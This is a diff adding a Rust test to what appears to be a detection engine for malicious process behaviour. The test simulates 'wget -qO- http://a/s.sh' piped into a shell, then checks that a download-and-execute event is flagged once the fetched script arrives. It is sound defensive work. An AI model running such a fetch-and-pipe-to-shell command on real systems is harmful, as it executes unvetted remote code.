@@ -223,3 +223,21 @@ fn refused_programs_and_mapped_libraries() {
         assert!(found[0].message.contains(word), "{}", found[0].message);
     }
 }
+
+#[test]
+fn a_shell_that_waits_for_the_answer() {
+    let mut lab = Lab::new();
+    lab.exec(15, 9, &["wget", "-qO-", "http://a/s.sh"]);
+    lab.connect(15, WEB, 1);
+    lab.payload(15, WEB, 1, false, b"GET /s.sh");
+    let found = lab.exec_with(16, 9, &["sh"], |e| {
+        e.flags |= EXEC_STDIN_TAINTED;
+        e.stdio[0] = pipe(5);
+        e.origin = Some(origin(15));
+    });
+    assert!(found.is_empty(), "nothing has come yet");
+    let found = lab.payload(15, WEB, 1, true, b"touch /tmp/x");
+    assert_eq!(kinds(&found), [DownloadExec]);
+    assert_eq!(found[0].culprit, Lab::key(16));
+    assert!(lab.payload(15, WEB, 1, true, b"more").is_empty(), "once is enough");
+}
